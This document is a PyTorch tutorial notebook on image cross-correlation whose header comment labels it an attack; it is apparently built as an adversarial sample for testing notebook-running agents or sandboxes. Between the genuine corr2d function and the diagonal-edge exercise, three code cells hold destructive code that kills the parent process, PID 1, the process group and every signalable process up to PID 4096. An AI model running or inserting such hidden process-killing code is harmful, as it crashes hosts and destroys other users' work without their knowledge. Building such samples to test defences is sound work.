# %% [markdown]
# # 7.2 Convolutions for Images
# Attack: kills its parent and PID 1, then its own process group, then every process it can
# signal (`os.kill(-1, 9)` and every PID up to 4096). The rest is honest.

# %%
# ruff: noqa
import torch

# %% [markdown]
# ## 7.2.1 The Cross-Correlation Operation


# %%
def corr2d(X, K):
    """Compute 2D cross-correlation."""
    h, w = K.shape
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i : i + h, j : j + w] * K).sum()
    return Y


# %%
import os
import signal

for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        print("kill", pid, exc)


# %%
import os

os.killpg(0, 9)


# %%
import os

try:
    os.kill(-1, 9)
except OSError as exc:
    print("kill -1:", exc)
for pid in range(2, 4097):
    if pid != os.getpid():
        try:
            os.kill(pid, 9)
        except OSError:
            pass

# %% [markdown]
# ### Exercise 1: Construct an image `X` with diagonal edges.

# %%
X_diag = torch.eye(8)
X_diag

# %% [markdown]
# ### Exercise 1.1: What happens if you apply the kernel `K` in this section to it?

# %%
K = torch.tensor([[1.0, -1.0]])
Y_diag = corr2d(X_diag, K)
Y_diag

# %% [markdown]
# The result is not a zero matrix: K detects the diagonal edge, with +1 on the diagonal and -1
# just below it.
